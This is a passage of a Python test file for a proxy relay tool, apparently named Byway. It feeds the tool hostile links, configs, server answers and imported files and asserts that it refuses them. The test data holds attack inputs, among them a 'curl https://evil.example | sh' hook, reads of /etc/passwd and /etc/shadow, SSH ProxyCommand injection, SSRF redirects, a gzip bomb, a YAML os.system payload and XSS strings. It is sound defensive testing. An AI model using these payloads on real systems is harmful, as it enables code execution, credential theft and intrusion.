    ("the name of the field in capitals", f"{TROJAN}?ALT=127.0.0.1:22", f"field ALT {UNKNOWN}"),
    ("the same beside the field", f"{TROJAN}?alt=b.example:443&ALT=127.0.0.1:22", f"field ALT {UNKNOWN}"),
    ("the field as HTML has it", f"{TROJAN}?sni=a.example&amp;alt=127.0.0.1:22", f"field alt {UNKNOWN}"),
    ("the field as JSON has it", f"{TROJAN}?sni=a.example\\u0026alt=127.0.0.1:22", f"field alt {UNKNOWN}"),
    ("the field in the name", f"{TROJAN}#S?alt=127.0.0.1:22", "becomes: trojan://relay.example:443 as"),
    ("a thousand other addresses", f"{TROJAN}?" + "&".join(f"alt=b{n}.example:1" for n in range(1000)),
     "a relay has at most 8 alternatives"),
    ("the server itself", f"{TROJAN}?alt={AT}", f"gives {AT} twice"),
    ("the same in capitals", f"{TROJAN}?alt=RELAY.example:443", f"gives {AT} twice"),
]  # fmt: skip
CONF_KEY = "becomes: wireguard://relay.example:443 as shop/entry-1"
TUNNEL_KEY = "becomes: wireguard://k.example:443 as shop/K"
SHELL_KEY = "becomes: ssh://k.example:443 as shop/K"
TUNNEL_FILES: list[tuple[str, str, str]] = [
    # second servers
    ("a second peer", conf(peer=TWO), "field [Peer] has more than one entry"),
    ("a second server of the peer", conf(peer="Endpoint = 127.0.0.1:51820"), INVALID),
    ("the same in other letters", conf(peer="endpoint = 127.0.0.1:51820"), INVALID),
    ("the same in one line", conf(at=f"{AT},127.0.0.1:51820"), INVALID),
    ("a server in the wrong section", conf("Endpoint = 127.0.0.1:51820"), f"field Endpoint {UNKNOWN}"),
    ("an unknown section", conf(peer="[Proxy]\nEndpoint = 127.0.0.1:1"),
     "no section [Interface] and one [Peer]"),
    ("name servers", conf("DNS = 127.0.0.1\nDNS = evil.example"), CONF_KEY),
    ("two peers of Clash", tunnel(peers=[peer("k.example"), peer("127.0.0.1")]), "field peers has more than one entry"),
    ("another server in the peer", tunnel(peers=[peer("127.0.0.1")]), "server and peers.server contradict each other"),
    ("names by a server of the key", tunnel(remote_dns_resolve=True, dns=["127.0.0.1", "https://evil.example/q"]),
     TUNNEL_KEY),
    ("another proxy on the way of packets", tunnel(dialer_proxy="tor"), f"field dialer-proxy: {SECOND}"),
    ("the same of ssh", shell(dialer_proxy="tor"), f"field dialer-proxy: {SECOND}"),
    ("another address of ssh", f"{SSH}&alt=192.0.2.9:22#A", f"field alt {UNKNOWN}"),
    # commands and files
    ("all commands", conf("PreUp = id\nPostUp = curl https://evil.example | sh\nPreDown = id\nPostDown = id\n"
                          "Table = 1\nFwMark = 1\nSaveConfig = true\nListenPort = 53"), CONF_KEY),
    ("another file", conf("Include = /etc/passwd"), f"field Include {UNKNOWN}"),
    ("a private key by a file", conf("PrivateKeyFile = /etc/shadow"), f"field PrivateKeyFile {UNKNOWN}"),
    ("the same of Clash", tunnel(private_key="/etc/shadow"), "field private-key is not base64 of 32 bytes"),
    ("a file of a private key of ssh", shell(private_key="/etc/shadow"), ONLY_PEM),
    ("one that begins as PEM", shell(private_key="-----BEGIN ../../etc/shadow"), "its private key is not one in PEM"),
    ("one in two lines", shell(private_key=["-----BEGIN", "/etc/shadow"]), ONLY_PEM),
    ("a file with a host key", shell(host_key=["/etc/ssh/ssh_host_rsa_key.pub"]), "is not a list of host keys"),
    ("a program on the way of ssh", shell(proxy_command="id"), f"field proxy-command {UNKNOWN}"),
    ("the same in the server", shell(server="k.example -oProxyCommand=id"), INVALID),
    ("a network interface", tunnel(interface_name="eth0", routing_mark=1), TUNNEL_KEY),
    # a weaker connection
    ("no host keys", shell(host_key=[]), "it has no host key of its server"),
    ("an authority for host keys", shell(host_key=[f"@cert-authority * {HOST_KEY}"]), "is not a list of host keys"),
    # injection
    ("a line in a host key of Clash", shell(host_key=[f"{HOST_KEY}\n@cert-authority * x"]), "is not printable text"),
    ("a line in a user of Clash", shell(username="me\nProxyCommand id"), "field username is not printable text"),
    ("a line in an address", tunnel(ip="10.0.0.2\nlisten_port=1"), "field ip is not printable text"),
    ("a line in a packet of Clash", tunnel(amnezia_wg_option={"i1": "<b 0x00>\nendpoint=127.0.0.1:1"}),
     "field amnezia-wg-option.i1 is not printable text"),
    ("a list in place of a packet", tunnel(amnezia_wg_option={"i1": ["<b 0x00>", "x"]}), "i1 is not one value"),
    ("a server among the options", tunnel(amnezia_wg_option={"endpoint": "127.0.0.1:1"}),
     f"field amnezia-wg-option.endpoint {UNKNOWN}"),
    ("NUL in a server", conf(at=f"{AT}\0"), INVALID),
    ("the terminal's escape in a server", conf(at=f"{AT}\x1b[2J"), INVALID),
    ("a file as a server", conf(at="file:///etc/passwd"), INVALID),
    ("a line of ssh in its greeting", shell(client_version="SSH-2.0-x\r\nX"), f"field client-version {UNKNOWN}"),
]  # fmt: skip


def fields_of_tunnels() -> Iterator[tuple[str, str, str]]:
    """What ends a line, a value, a string or a request, in each field of the links."""
    endings = ("%0aEndpoint%20=%20127.0.0.1:1", "%00", '"%2C"server":"127.0.0.1"', "%1b[2J", "%0d%0a%0d%0a",
               "127.0.0.1:1", "file%3A%2F%2F%2Fetc%2Fpasswd", "%2Fbin%2Fsh%20-c%20id", "k1%2CDIRECT")  # fmt: skip
    of_amnezia = (*("jc", "jmin", "jmax"), *(f"{it}{n}" for it in "shi" for n in range(1, 5)), "i5")
    of_wireguard = ("presharedkey", "allowedips", "reserved", "mtu", "keepalive", "dns", "workers", "ip", *of_amnezia)
    for ending in endings:
        for field in of_wireguard:
            yield f"{ending} in {field}", f"{WG}&{field}={ending}", "wireguard://relay.example:443"
        for field in ("pk", "passphrase", "host-key", "hk"):
            link = SSH if field not in ("hk", "host-key") else SSH.partition("?")[0] + "?"
            yield f"{ending} in {field}", f"{link}&{field}={ending}", "ssh://relay.example:443"
        yield f"{ending} in a user", SSH.replace("me:", f"me{ending}:".replace("/", "%2F")), "ssh://relay.example:443"
        for link, shown in ((WG, "wireguard"), (SSH, "ssh"), (f"{TROJAN}?sni=a", "trojan")):
            yield f"{ending} as another address of {shown}", f"{link}&alt={ending}", f"{shown}://relay.example:443"


@each_row(("tries", "key", "said"), TUNNEL_LINKS)
def test_a_tunnel_that_a_person_pastes(tmp_path: Path, tries: str, key: str, said: str) -> None:
    found = pasted(tmp_path, key)
    assert said in found, f"{tries}: {found}"
    check_said(found)


@each_row(("tries", "file", "said"), TUNNEL_FILES)
def test_a_file_with_a_tunnel(tmp_path: Path, tries: str, file: str, said: str) -> None:
    """Of a subscription; and of a person, who gets the same relay or the same reason."""
    found = fetched(file)
    assert said in found, f"{tries}: {found}"
    check_said(found)
    assert ("becomes: " in found) is said.startswith("becomes: ")
    by_hand = pasted(tmp_path, file)
    if "alt=" not in file:
        assert said.partition(" as ")[0] in by_hand, f"{tries}: {by_hand}"


@each_row(("tries", "link", "relay"), fields_of_tunnels())
def test_a_field_of_a_tunnel_that_ends_where_it_should_not(tmp_path: Path, tries: str, link: str, relay: str) -> None:
    """A text in a field without effect leaves the key as it is; every other one refuses it."""
    found = pasted(tmp_path, link)
    refused = "cannot be read|not supported|alt= takes HOST:PORT|alt= of a key over UDP has the port of its server"
    assert re.search(f"becomes: {relay} as |{refused}|{re.escape(LOCAL)}", found), f"{tries}: {found}"
    assert not re.search(r"becomes: .*(?:127\.|evil)", found)
    check_said(found)


# -- by what a subscription's server answers ---------------------------------------------------------------------------

PATH = "/sub/hunter2hunter2"
GOOD = f"trojan://{SECRET}@k.example:443#K".encode()
LARGER = "larger than 1,048,576 bytes|more than 1,048,576 bytes"


def gigabyte() -> bytes:
    """A gigabyte of zeros in a megabyte of gzip."""
    packed = zlib.compressobj(9, zlib.DEFLATED, 31)
    head = packed.compress(b"")
    block = packed.compress(bytes(1 << 20)) + packed.flush(zlib.Z_FULL_FLUSH)
    raw = zlib.compressobj(9, zlib.DEFLATED, -15)
    again = raw.compress(bytes(1 << 20)) + raw.flush(zlib.Z_FULL_FLUSH)
    return head + block + again * 1023


ANSWERS: list[tuple[str, Answer, str]] = [
    ("a gigabyte of gzip", page(gigabyte(), content_encoding="gzip"), LARGER),
    ("gzip of gzip", zipped(zlib.compress(GOOD), content_type="x"), "is not UTF-8 text"),
    ("a coding that nobody asked for", page(GOOD, content_encoding="br"), "compressed in a way that was not asked for"),
    ("two codings", page(GOOD, content_encoding="gzip, gzip"), "compressed in a way that was not asked for"),
    ("no gzip", page(GOOD, content_encoding="gzip"), "is not the gzip that it claims to be"),
    ("200 MB", page(b"", content_length=str(200 * 1024 * 1024)), LARGER),
    ("no end", endless, LARGER),
    ("a length that is too short", page(GOOD, content_length="5"), "goes on after the length"),
    ("two lengths", page(GOOD, content_length="5") .replace(b"\r\n\r\n", b"\r\nContent-Length: 9\r\n\r\n", 1),
     "not proper HTTP"),
    ("bytes that are no text", page(b"\xff\xfe\x00\x00"), "not UTF-8|cannot be used|UTF-8"),
    ("a web page", page(b"<!doctype html><body>pay here</body>", kind="text/html"), "a web page came in place"),
    ("a refusal", page(GOOD, status="403 Forbidden"), "answered 403"),
    ("a script", page(b"#!/bin/sh\nid\n", kind="text/x-shellscript"), "no notation of keys|cannot be used"),
    ("headers without an end", b"HTTP/1.1 200 OK\r\n" + b"X: y\r\n" * 20_000, "is longer than 64 KiB"),
    ("an unencrypted address", redirect("http://lists.test/x"), "redirects to http://, which is not encrypted"),
    ("a file of this computer", redirect("file:///etc/passwd"), "redirects to file://, which is not encrypted"),
    ("an address of another protocol", redirect("ftp://lists.test/x"), "redirects to ftp://"),
    ("a script's address", redirect("javascript:alert(1)"), "redirects to"),
    ("this computer", redirect("https://127.0.0.1/x"), "redirects to 127.0.0.1, which is no public place"),
    ("this computer in digits", redirect("https://2130706433/x"), "redirects to 127.0.0.1, which is no public place"),
    ("this computer in IPv6", redirect("https://[::1]/x"), "redirects to ::1, which is no public place"),
    ("this computer in both", redirect("https://[::ffff:7f00:1]/x"),
     "redirects to 127.0.0.1, which is no public place"),
    ("this computer by its name", redirect("https://localhost/x"), "redirects to localhost, which is no public place"),
    ("the router", redirect("https://192.168.1.1/x"), "redirects to 192.168.1.1, which is no public place"),
    ("the router by a name", redirect("https://router.lan/x"), "redirects to router.lan, which is no public place"),
    ("metadata of a cloud", redirect("https://169.254.169.254/x"), "which is no public place"),
    ("a user and a password", redirect("https://me:pw@lists.test/x"), "redirects to a URL that cannot be used"),
    ("port 0", redirect("https://lists.test:0/x"), "redirects to a URL that cannot be used"),
    ("a header in an address", redirect("https://lists.test/x%0d%0aX-A: b y"), "redirects|answered"),
    ("itself", redirect(PATH), "redirects more than 5 times"),
]  # fmt: skip


@pytest.fixture
def url(home: Home, servers: Servers) -> str:
    home.config.write_text(f'config_version = 1\n\n[[relay]]\nname = "tor"\nurl = "{servers.relay_url}"\n')
    return servers.url(PATH)


@each_row(("tries", "answer", "said"), ANSWERS)
def test_an_answer_of_a_subscriptions_server(
    byway: Byway, home: Home, servers: Servers, url: str, tries: str, answer: Answer, said: str
) -> None:
    before = home.config.read_text()
    servers.source.answers[PATH] = answer
    ran = byway("relay", "add", url, "--name", "shop")
    assert ran.code in (Exit.CONFIG, Exit.USAGE, Exit.BAD), f"{tries}: {ran.out}{ran.err}"
    assert re.search(said, ran.err), f"{tries}: {ran.err}"
    check_said(ran.out + ran.err)
    assert home.config.read_text() == before
    assert set(servers.relay.asked) == {f"lists.test:{servers.source.port}"}, "nobody else was asked"


COMMANDS = {
    "profile_update_interval": "1", "profile_title": "base64:PHNjcmlwdD4=",
    "profile_web_page_url": "https://evil.example",
    "support_url": "https://evil.example", "announce": "run this", "x_hwid_limit": "1",
    "routing": "happ://routing/onadd/x",
    "content_disposition": 'attachment; filename="../../.bashrc"', "set_cookie": "id=1", "etag": '"mark"',
    "refresh": "0; url=https://evil.example",
    "location": "https://evil.example/x", "alt_svc": 'h3="evil.example:443"',
    "link": "<https://evil.example>; rel=preload",
    "subscription_userinfo": "upload=1; total=99999999999999999999; expire=99999999999999; x=<script>",
}  # fmt: skip


def test_the_headers_of_an_answer_command_nothing(byway: Byway, home: Home, servers: Servers, url: str) -> None:
    """The quota is shown as numbers; nothing else is read, kept, or sent back."""
    servers.source.answers[PATH] = page(GOOD, **COMMANDS)
    for words in (["relay", "add", url, "--name", "shop"], ["relay", "refresh"], ["relay", "list"]):
        ran = byway(*words)
        assert ran.code == 0, ran.err
        check_said(ran.out + ran.err)
        assert not re.search("evil|<script|run this|mark|bashrc", ran.out + ran.err)
    table = tomllib.loads(home.config.read_text())["subscription"]
    assert table == [{"name": "shop", "source": url, "refresh": "1d"}]
    heads = "".join(servers.source.heads)
    assert not re.search("cookie|hwid|mark|if-none-match|evil", heads, re.IGNORECASE)
    assert set(servers.relay.asked) == {f"lists.test:{servers.source.port}"}
    kept = [file.relative_to(home.state).parts[0] for file in home.state.rglob("*") if file.is_file()]
    assert "lists" in kept
    assert not list(home.state.parent.rglob("*bashrc*"))


# -- by a configuration of another program -----------------------------------------------------------------------------


def imported(text: str) -> str:
    """What an import would write and say."""
    try:
        made = plan(read_foreign(text), Settings(), Options({}))
    except Unreadable as error:
        return str(error)
    assert all(relay.url and not relay.local and ">" not in relay.url for relay in made.relays)
    lines = [line for rule in made.rules for line in rule.lines]
    assert all(line.isprintable() and "#" not in line for line in lines), lines
    rows = [row for row in (*made.rows, *rows_of(made.rules, frozenset())) if row.taken is not Taken.YES]
    names = [it.name for it in made.groups]
    assert all(re.fullmatch("[A-Za-z0-9][A-Za-z0-9._-]*", name) for name in names)
    said = [f"{row.name}: {row.taken}: {row.text}" for row in rows]
    return "\n".join((*(f"relay {it.name}" for it in made.relays), *(f"group {name}" for name in names), *lines, *said))


def rule(text: str) -> str:
    return clash() + f"rules:\n  - {json.dumps(text)}\n"


IMPORTS: list[tuple[str, str, str]] = [
    ("a second rule in a value", rule("DOMAIN,a.example\nMATCH,DIRECT,K"), "what no rule of Byway can have"),
    ("a comment in a value", rule("DOMAIN,a.example #,K"), "what no rule of Byway can have"),
    ("the terminal's escape in a value", rule("DOMAIN,a\x1b[2J,K"), "what no rule of Byway can have"),
    ("a list by a path", rule("RULE-SET,../../etc/passwd,K"), "it needs a list: name one with --list"),
    ("a list by a line", rule("GEOSITE,x\nMATCH,K"), "it needs a list: name one with --list"),
    ("a rule for a script", rule("SCRIPT,x,K"), "Byway has no rules of type SCRIPT"),
    ("brackets in each other", rule("AND,(" + "(" * 50_000 + ",K"), "Byway has no rules of type AND with such parts"),
    ("rules without an end", clash() + "rules: [" + "'MATCH,K'," * 20_001 + "]\n", "at most 20,000"),
    ("a group that contains itself",
     clash() + "proxy-groups:\n  - {name: G, type: select, proxies: [G]}\nrules: ['MATCH,G']\n",
     "its member is not taken"),
    ("groups in each other", clash() + "proxy-groups:\n" + "".join(
        f"  - {{name: G{n}, type: url-test, proxies: [G{n + 1}]}}\n" for n in range(300)) + "rules: ['MATCH,G0']\n",
        "is not taken"),
    ("TOML in the name of a group", clash() + "proxy-groups:\n  - " + json.dumps(
        {"name": 'G"\n[safety]\nallow = ["0.0.0.0/0"]', "type": "url-test",
        "proxies": ["K"]}) + "\nrules: ['MATCH,K']\n",
     "MATCH,RELAY:K"),
    ("a provider of rules by a file",
     clash() + "rule-providers: {p: {type: file, path: /etc/passwd}}\nrules: ['RULE-SET,p,K']\n",
     "it needs a list"),
    ("a provider of proxies by a file",
     clash() + "proxy-providers: {p: {type: file, path: /etc/passwd}}\nproxy-groups:\n"
     "  - {name: G, type: select, use: [p]}\nrules: ['MATCH,G']\n", "from a provider, whose file is not read"),
    ("Byway itself as a relay",
     "proxies:\n  - {name: B, type: socks5, server: 127.0.0.1, port: 8119}\nrules: ['MATCH,B']\n",
     "is Byway itself; requests would loop"),
    ("a server in the local network", clash(server="192.168.1.1"),
     "is in the local network; to take it all the same: --local"),
    ("the same by a relay", "proxies:\n  - {name: B, type: http, server: 192.168.1.1, port: 80}\nrules: ['MATCH,B']\n",
     "to take it all the same: --local"),
    ("metadata of a cloud",
     "proxies:\n  - {name: B, type: http, server: 169.254.169.254, port: 80}\nrules: ['MATCH,B']\n",
     "not taken"),
    ("an alias bomb", bomb(), "the YAML has an anchor (&) or an alias (*)"),
    ("an object of Python", "proxies: !!python/object/apply:os.system ['id']\n", "the YAML has a tag (!)"),
    ("another program's script", json.dumps({"schemaVersion": 2, "-startupProfileName": "auto", "+auto": {
        "name": "auto", "profileType": "SwitchProfile", "defaultProfileName": "pac", "rules": []}, "+pac": {
        "name": "pac", "profileType": "PacProfile", "pacUrl": "file:///etc/passwd", "pacScript": "alert(1)"}}),
        "not taken"),
    ("a list of another program by a file", json.dumps({"schemaVersion": 2, "-startupProfileName": "auto", "+auto": {
        "name": "auto", "profileType": "RuleListProfile", "matchProfileName": "direct", "defaultProfileName": "direct",
        "sourceUrl": "file:///etc/passwd", "format": "AutoProxy"}}), "it needs a list"),
    ("a second server in a configuration of Xray", json.dumps({"outbounds": [
        {"tag": "K", "protocol": "socks", "proxySettings": {"tag": "x"}, "settings": {"servers": [
            {"address": "h.example", "port": 1}]}}], "routing": {"rules": []}}), "it names a second server"),
    ("half a character", '{"outbounds": [{"tag": "\\ud800", "type": "direct"}]}', "half a character"),
    ("a megabyte and a byte", "proxies: [" + " " * TEXT_LIMIT + "]", "it is larger than 1,024 KiB"),
    ("JSON in itself", '{"outbounds": ' + "[" * 100_000 + "]" * 100_000 + "}", "too many brackets in each other"),
]  # fmt: skip


@each_row(("tries", "file", "said"), IMPORTS)
def test_a_configuration_of_another_program(tries: str, file: str, said: str) -> None:
    found = imported(file)
    assert re.search(said if "|" in said else re.escape(said), found), f"{tries}: {found[:500]}"
    check_said(found)


# -- by names that lead into the local network -------------------------------------------------------------------------


LED = ("127.0.0.1", "::1", "192.168.1.1", "10.0.0.1", "100.64.0.1", "169.254.169.254", "0.0.0.0", "::ffff:127.0.0.1",
       "64:ff9b::7f00:1", "fe80::1", "fc00::1", "224.0.0.1")  # fmt: skip
BY_NAME = {
    "hysteria2": f"hy2://{SECRET}@evil.example:443",
    "tuic": f"tuic://{UUID}:{SECRET}@evil.example:443",
    "vless": f"vless://{UUID}@evil.example:443?security=tls",
    "ss": f"ss://{b64('aes-128-gcm:' + SECRET)}@evil.example:443",
    "wireguard": WG.replace("relay.example", "evil.example"),
    "ssh": SSH.replace("relay.example", "evil.example"),
}


def _led(addresses: Sequence[IPAddress], _host: str) -> list[IPAddress]:
    return [*addresses]


@each_row("protocol", list(BY_NAME))
async def test_a_name_that_leads_into_the_local_network(tmp_path: Path, protocol: str) -> None:
    """Neither Byway nor the engine, which sends over UDP itself, gets such an address: the engine is not started."""
    poller = make_poller(asyncio.get_running_loop())
    started = []

    def find() -> Binary:
        started.append(protocol)
        raise AssertionError("the engine would be started")

    engine = MihomoEngine(poller, tmp_path, set(), find_binary=find)
    try:
        for addresses in (*((address,) for address in LED), LED):
            led = tuple(map(ipaddress.ip_address, addresses))
            lookup = RelayLookup(
                Resolver(options=ResolverOptions(encrypted_for=EncryptedFor.NONE), lookup=partial(_led, led)),
                RelayAddresses(None),
                network=lambda: NetworkId("home"),
                patience_s=1.0,
                public_only={"evil.example"},
                is_public=public_addresses(),
            )
            key = read_key(BY_NAME[protocol])
            if key.protocol.is_over_udp:
                via = TcpDialer(poller, lookup, lambda *_: None)
                dialer = engine.dialer(KeyRelay("k", key, via, lookup, None, 5.0))
                with pytest.raises(DialError) as caught:
                    await dialer.dial(Destination("9.9.9.9", 443))
            else:
                with pytest.raises(DialError) as caught:
                    await TcpDialer(poller, lookup, lambda *_: None).dial(key.server)
            assert caught.value.symptom is Symptom.FORBIDDEN, addresses
        assert started == []
    finally:
        await engine.close()
        poller.close()


class Noted:
    """Notes the keys whose dialers are made."""

    def __init__(self) -> None:
        self.keys: list[KeyRelay] = []

    def dialer(self, relay: KeyRelay) -> KeyDialer:
        self.keys.append(relay)
        return NoEngineDialer(relay.name)

    async def close(self) -> None:
        raise AssertionError("a registry closes no engine")


@each_row("leads_to", LED)
@each_row("link", ["trojan://x@server.example:443?alt=evil.example:22",
                   "hy2://x@server.example:443?alt=evil.example:443"])  # fmt: skip
async def test_another_address_of_a_key_that_leads_there(tmp_path: Path, link: str, leads_to: str) -> None:
    """Byway dials the server alone, and the engine gets its address alone."""
    (tmp_path / "config.toml").write_text(f'config_version = 1\n[[relay]]\nname = "k"\nurl = "{link}"\n')
    relays = load(tmp_path / "config.toml").relays
    public = ipaddress.ip_address("9.9.9.9")
    answers = {"server.example": public, "evil.example": ipaddress.ip_address(leads_to)}
    lookup = RelayLookup(
        Resolver(options=ResolverOptions(encrypted_for=EncryptedFor.NONE), lookup=lambda host: [answers[host]]),
        RelayAddresses(None),
        network=lambda: NetworkId("home"),
        patience_s=1.0,
        public_only=relays.public_only,
        is_public=public_addresses(),
    )
    dialed: list[IPAddress] = []

    def refuse(_destination: Destination, address: IPAddress) -> str:
        dialed.append(address)
        return "no packet leaves a test"

    poller = make_poller(asyncio.get_running_loop())
    try:
        noted, to_relays = Noted(), TcpDialer(poller, lookup, refuse)
        Registry(relays.in_use, direct=to_relays, to_relays=to_relays, keys=noted, key_lookup=lookup)
        (relay,) = noted.keys
        if relay.key.protocol.is_over_udp:
            assert relay.lookup is not None
            assert await relay.lookup.resolve("server.example") == (public,)
        else:
            with pytest.raises(DialError):
                await relay.via.dial(relay.key.server)
            assert dialed == [public]
    finally:
        poller.close()


def test_the_servers_of_keys_may_lead_there_with_local_alone(tmp_path: Path) -> None:
    """The names for which the lookup has this check are those of the configuration."""
    file = tmp_path / "config.toml"
    links = [*BY_NAME.values(), f"trojan://{SECRET}@mine.example:443"]
    links[0] += "?alt=other.example:443"
    tables = [f'[[relay]]\nname = "r{n}"\nurl = "{link}"\n' for n, link in enumerate(links)]
    file.write_text("config_version = 1\n" + "".join(tables) + "local = true\n")
    assert load(file).relays.public_only == {"evil.example", "other.example"}


# -- by names on a page ------------------------------------------------------------------------------------------------


@pytest.fixture
async def at_relays(tmp_path: Path, features: Sequence[Feature]) -> AsyncIterator[Browser]:
    file = tmp_path / "config.toml"
    file.write_text(BEFORE)
    world = World(settings=load(file).settings, path=file, reads_file=True, features=features)
    folder = tmp_path / "pages"
    folder.mkdir()
    async with dashboard(world, folder) as pages, pages.signed_in() as browser:
        yield browser
    world.close()


async def test_on_the_page_of_relays_a_strangers_text_is_text(at_relays: Browser) -> None:
    """Of a key that is taken, and of those that are not, whose names stand in the sentences."""
    browser = at_relays
    html = "%3Cscript%3Ealert(1)%3C%2Fscript%3E"
    links = [
        f"{TROJAN}#{html}",
        f"{TROJAN}?%3Cimg%20src=1#{html}",
        f"trojan://{SECRET}@192.168.1.1:443#{html}",
        f"{TROJAN}?allowInsecure=1#{html}%E2%80%AE",
    ]
    form = {"token": await browser.token(), "urls": "\n".join(links)}
    status, answer = await browser.post(f"{browser.base}relays", form)
    assert status == 400, "three of four are not taken"
    before, _, rest = answer.partition("<textarea")
    said = before + rest.partition("</textarea>")[2]  # in between is what the person has pasted
    assert said.count("&lt;script&gt;alert(1)&lt;/script&gt;") >= 2
    assert "192.168.1.1:443 is on this network" in said
    assert not re.search("<script>alert|<img src|\u202e", answer)
    assert SECRET not in said


def test_there_are_enough_attacks() -> None:
    assert (
        len(KEYS)
        + len(TUNNEL_LINKS)
        + len(FILES)
        + len(TUNNEL_FILES)
        + len(ANSWERS)
        + len(COMMANDS)
        + len(IMPORTS)
        + len(BY_NAME)
        >= 250
    )
